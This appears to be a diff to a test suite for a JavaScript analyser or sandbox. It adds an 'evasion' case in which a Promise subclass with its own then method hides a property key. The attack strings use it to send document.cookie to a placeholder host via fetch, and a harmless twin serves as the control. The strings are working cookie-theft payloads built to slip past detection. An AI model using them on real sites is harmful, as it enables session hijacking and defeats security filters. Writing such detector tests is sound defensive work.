@@ -14,7 +14,20 @@ const SEND = `fetch('https://c.test/' + document.cookie)`;
 const CODE = `"${SEND}"`;
 const HARMLESS = `"document.title = 'x'"`;
 
+const OWN_PROMISE = `class Own extends Promise { then(yes, no) { return super.then((it) => yes(it + "o"), no); } }`;
+
 const EVASIONS: readonly Evasion[] = [
+	{
+		name: "a class that extends Promise and has a `then` of its own",
+		level: "red",
+		attacks: [
+			`Own.resolve("ab").then((it) => { const box = {}; box[it] = document.cookie; fetch("https://c.test/" + box["abo"]); });`,
+			`(async () => { const box = { [await Own.resolve("ab")]: document.cookie }; fetch("https://c.test/" + box.abo); })();`,
+			`Own.resolve("a").then((it) => it).then((it) => { const box = {}; box[it] = document.cookie; fetch("https://c.test/" + box["aoo"]); });`,
+			`Promise.resolve.call(Own, "ab").then((it) => { if (it === "abo") ${SEND}; });`,
+		].map((attack) => `${OWN_PROMISE} ${attack}`),
+		twins: [`${OWN_PROMISE} Own.resolve("ab").then((it) => { document.title = it; });`],
+	},
 	{
 		name: "code reached through arguments.callee",
 		level: "red",
